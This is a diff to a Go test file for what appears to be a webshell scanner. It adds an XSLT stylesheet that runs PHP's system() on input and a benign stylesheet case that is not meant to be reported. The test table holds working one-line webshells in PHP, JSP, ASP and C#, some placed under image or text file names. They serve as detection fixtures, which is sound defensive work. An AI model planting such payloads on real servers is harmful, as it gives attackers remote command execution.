@@ -22,6 +22,8 @@ func TestScanDispatch(t *testing.T) {
 		{"logo.jpg", "GIF89a\n<?php @eval($_POST['x']); ?>", lang.PHP, "php."},
 		{"x.txt", `<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>`, lang.JSP, "jsp."},
 		{"a.ico", `<%eval request("pass")%>`, lang.ASP, ""},
+		{"t.xsl", `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:p="http://php.net/xsl">` +
+			`<xsl:template match="/"><xsl:value-of select="p:function('system', string(/r/c))"/></xsl:template></xsl:stylesheet>`, lang.PHP, "php.xslt-exec"},
 		{"h.ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System; using System.Web;\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext c) { System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + c.Request[\"c\"]); } public bool IsReusable { get { return false; } } }", lang.ASPX, ""},
 	}
 	for _, c := range cases {
@@ -32,6 +34,13 @@ func TestScanDispatch(t *testing.T) {
 	}
 	if r := Scan("index.html", []byte("<html><body>hello</body></html>")); r.Reported() || len(r.Detections) > 0 {
 		t.Errorf("HTML page: %+v", r)
+	}
+	// A stylesheet that calls harmless PHP functions is PHP's to read,
+	// and not reported.
+	xsl := `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl">` +
+		`<xsl:template match="/"><xsl:value-of select="php:function('strtoupper', string(/r/t))"/></xsl:template></xsl:stylesheet>`
+	if r := Scan("format.xsl", []byte(xsl)); r.Lang != lang.PHP || r.Reported() {
+		t.Errorf("benign PHP stylesheet: lang %v, %+v", r.Lang, r.Detections)
 	}
 }
 
